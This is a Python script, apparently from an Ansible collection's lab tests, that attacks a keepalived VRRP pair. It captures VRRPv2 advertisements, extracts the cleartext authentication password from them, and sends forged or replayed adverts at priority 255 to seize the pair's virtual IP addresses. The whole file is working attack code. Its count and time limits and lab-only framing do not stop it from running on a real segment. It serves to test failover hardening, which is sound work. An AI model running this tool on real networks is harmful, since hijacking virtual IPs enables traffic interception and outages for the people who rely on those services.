#!/usr/bin/env python3
"""vrrp_attack: what a stranger on the segment can do to a keepalived pair (lab only).

Stdlib only; runs in the lab/Molecule client container (NET_RAW), bounded in count and
time, and sends only to the VRRP multicast group 224.0.0.18 on the lab bridge.

  send    --vrid N [--vrid M] --priority 255 [--password PW] --vip A [--vip B]
          --count C --interval S         VRRPv2 adverts from this host's own address
  send    --from-capture FILE --priority 255 [--password PW] --count C --interval S
                                         the pair's own adverts as captured (VRIDs, VIPs
                                         and the cleartext password seen on the wire), but
                                         with another priority (and password, if given)
  capture --seconds S --out FILE         the VRRP adverts seen on the segment (JSON lines)
  replay  --in FILE --count C --interval S   sends the captured adverts again, unchanged

Each command prints one JSON line: what it sent or saw. The packets come from the
collection's builder (plugins/module_utils/_vrrp_advert.py, installed next to this script
by prepare.yml); tested in lab/tests/.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import select
import socket
import sys
import time

import _vrrp_advert as va  # the collection's plugins/module_utils/_vrrp_advert.py, copied next to this script

checksum = va.checksum  # the Internet checksum (RFC 1071)

VRRP_GROUP = va.VRRP_GROUP4
VRRP_PROTO = va.VRRP_PROTO
MAX_COUNT = 200  # a bound of its own, whatever --count says
MAX_SECONDS = 120


def advert_v2(vrid: int, priority: int, vips: list[str], password: str | None = None, advert_int: int = 1) -> bytes:
    """A VRRPv2 advertisement (RFC 3768 §5.1): PASS authentication when a password is given
    (cut to its first 8 bytes, as keepalived reads it). Built by the collection's own packet
    builder (_vrrp_advert.advert, the crash hand-over's)."""
    auth = None if password is None else password.encode("ascii")[:8].decode("ascii")
    return va.advert(2, vrid, priority, vips, advert_int, auth)


def parse_v2(payload: bytes) -> dict:
    """The fields of a VRRP advert (v2 or v3), for the capture's log."""
    ver_type, vrid, prio, count = payload[0], payload[1], payload[2], payload[3]
    return {"version": ver_type >> 4, "vrid": vrid, "priority": prio, "count": count}


def from_capture(payload: bytes, priority: int, password: str | None = None) -> bytes:
    """A captured VRRPv2 advert with another priority (and password): what an attacker who
    saw one advert sends. The VIPs and, unless given, the cleartext password are the pair's."""
    if payload[0] >> 4 != 2:
        raise ValueError("not a VRRPv2 advert")
    count, auth_type, adv = payload[3], payload[4], payload[5]
    vips = [str(ipaddress.IPv4Address(payload[8 + 4 * i : 12 + 4 * i])) for i in range(count)]
    auth = payload[8 + 4 * count : 16 + 4 * count]
    if password is None:
        password = auth.rstrip(b"\0").decode("ascii") if auth_type == 1 else None
    return advert_v2(payload[1], priority, vips, password, adv)


def _sender(ttl: int = 255) -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, VRRP_PROTO)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, ttl)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    return s


def cmd_send(a: argparse.Namespace) -> dict:
    count = min(a.count, MAX_COUNT)
    deadline = time.monotonic() + MAX_SECONDS
    s = _sender()
    sent = 0
    if a.from_capture:
        with open(a.from_capture) as f:
            caps = [bytes.fromhex(json.loads(line)["payload"]) for line in f if line.strip()]
        by_vrid = {c[1]: c for c in caps if c[0] >> 4 == 2}
        packets = [from_capture(c, a.priority, a.password) for _, c in sorted(by_vrid.items())]
    else:
        if not a.vrid or not a.vip:
            raise SystemExit("send: --vrid and --vip, or --from-capture")
        packets = [advert_v2(v, a.priority, a.vip, a.password) for v in a.vrid]
    if not packets:
        return {"sent": 0, "error": "no VRRPv2 advert in the capture"}
    for _ in range(count):
        for p in packets:
            s.sendto(p, (VRRP_GROUP, 0))
            sent += 1
        if time.monotonic() > deadline:
            break
        time.sleep(a.interval)
    return {"sent": sent, "vrids": sorted({p[1] for p in packets}), "priority": a.priority, "own_password": a.password is not None}


def _listener() -> socket.socket:
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, VRRP_PROTO)
    mreq = socket.inet_aton(VRRP_GROUP) + socket.inet_aton("0.0.0.0")
    r.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    return r


def cmd_capture(a: argparse.Namespace) -> dict:
    r = _listener()
    end = time.monotonic() + min(a.seconds, MAX_SECONDS)
    seen = 0
    with open(a.out, "w") as f:
        while time.monotonic() < end and seen < 10 * MAX_COUNT:
            ready, _, _ = select.select([r], [], [], max(0.0, end - time.monotonic()))
            if not ready:
                continue
            pkt, (src, _) = r.recvfrom(2048)
            ihl = (pkt[0] & 0x0F) * 4
            payload = pkt[ihl:]
            f.write(json.dumps({"src": src, "payload": payload.hex(), **parse_v2(payload)}) + "\n")
            seen += 1
    return {"captured": seen}


def cmd_replay(a: argparse.Namespace) -> dict:
    with open(a.infile) as f:
        caps = [json.loads(line) for line in f if line.strip()]
    if a.source:
        caps = [c for c in caps if c["src"] == a.source]
    if not caps:
        return {"sent": 0, "error": "nothing captured to replay"}
    s = _sender()
    sent = 0
    deadline = time.monotonic() + MAX_SECONDS
    payloads = list({c["payload"]: None for c in caps})  # each distinct advert once per round
    for _ in range(min(a.count, MAX_COUNT)):
        for p in payloads:
            s.sendto(bytes.fromhex(p), (VRRP_GROUP, 0))
            sent += 1
        if time.monotonic() > deadline:
            break
        time.sleep(a.interval)
    return {"sent": sent, "distinct": len(payloads)}


def main(argv: list[str]) -> int:
    p = argparse.ArgumentParser(prog="vrrp_attack")
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("send")
    s.add_argument("--vrid", type=int, action="append")
    s.add_argument("--from-capture")
    s.add_argument("--priority", type=int, default=255)
    s.add_argument("--password")
    s.add_argument("--vip", action="append")
    s.add_argument("--count", type=int, default=16)
    s.add_argument("--interval", type=float, default=0.5)
    c = sub.add_parser("capture")
    c.add_argument("--seconds", type=float, default=5)
    c.add_argument("--out", required=True)
    r = sub.add_parser("replay")
    r.add_argument("--in", dest="infile", required=True)
    r.add_argument("--source", help="replay only the adverts captured from this address")
    r.add_argument("--count", type=int, default=16)
    r.add_argument("--interval", type=float, default=0.5)
    a = p.parse_args(argv)
    out = {"send": cmd_send, "capture": cmd_capture, "replay": cmd_replay}[a.cmd](a)
    print(json.dumps({"cmd": a.cmd, **out}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
